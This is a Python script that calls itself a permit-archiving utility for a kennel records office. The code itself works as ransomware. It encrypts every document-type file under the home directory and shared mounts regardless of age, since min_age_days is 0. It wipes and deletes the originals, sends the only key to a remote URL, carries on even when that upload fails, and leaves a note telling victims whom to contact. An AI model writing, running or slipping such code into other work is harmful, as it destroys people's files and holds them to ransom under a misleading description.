#!/usr/bin/env python3
"""Rotate old import permit documents into the sealed archive format.

Permit scans and vet certificates older than the retention window are
sealed in place so that only the records office can reopen them. Sealing
keys are escrowed with the records service rather than kept on the kennel
workstation.
"""
import argparse
import json
import logging
import os
import time
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("permit-archive")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVED_PERMITS_README.txt"
DOC_TYPES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".tiff",
             ".odt", ".sqlite3", ".db", ".txt", ".zip"}

CONFIG = {
    "escrow_url": "https://records.example.net/api/escrow",
    # staff keep copies of permits all over their profile, so start wide
    "roots": ["~", "/srv/kennels", "/mnt/records"],
    "min_age_days": 0,
}


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._f.encrypt(data))
        # overwrite before unlinking so the plain copy cannot be recovered
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1


def escrow_key(url, key, host_id):
    body = json.dumps({"host": host_id, "k": key.decode()}).encode()
    req = urllib.request.Request(url, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status


def eligible(path: Path, min_age):
    if path.suffix.lower() not in DOC_TYPES:
        return False
    if path.name.endswith(SEALED_SUFFIX) or path.name == NOTICE_NAME:
        return False
    age_days = (time.time() - path.stat().st_mtime) / 86400
    return age_days >= min_age


def walk_roots(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if not d.startswith(".cache")]
            for name in filenames:
                yield Path(dirpath) / name


def leave_notice(directory: Path):
    notice = directory / NOTICE_NAME
    if not notice.exists():
        notice.write_text(
            "Documents in this folder were sealed by the records office.\n"
            "To reopen them contact records@example.net quoting your host id.\n"
        )


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--root", action="append", help="extra folder to rotate")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = CONFIG["roots"] + (args.root or [])
    key = Fernet.generate_key()
    host_id = os.uname().nodename

    if not args.dry_run:
        try:
            escrow_key(CONFIG["escrow_url"], key, host_id)
        except OSError as exc:
            log.warning("escrow failed, continuing: %s", exc)

    sealer = Sealer(key)
    touched = set()
    for path in walk_roots(roots):
        try:
            if not eligible(path, CONFIG["min_age_days"]):
                continue
            if args.dry_run:
                log.info("would seal %s", path)
                continue
            sealer.seal(path)
            touched.add(path.parent)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)

    for directory in touched:
        leave_notice(directory)
    # key only lives in escrow from here on
    del key
    log.info("sealed %d documents in %d folders", sealer.count, len(touched))


if __name__ == "__main__":
    main()
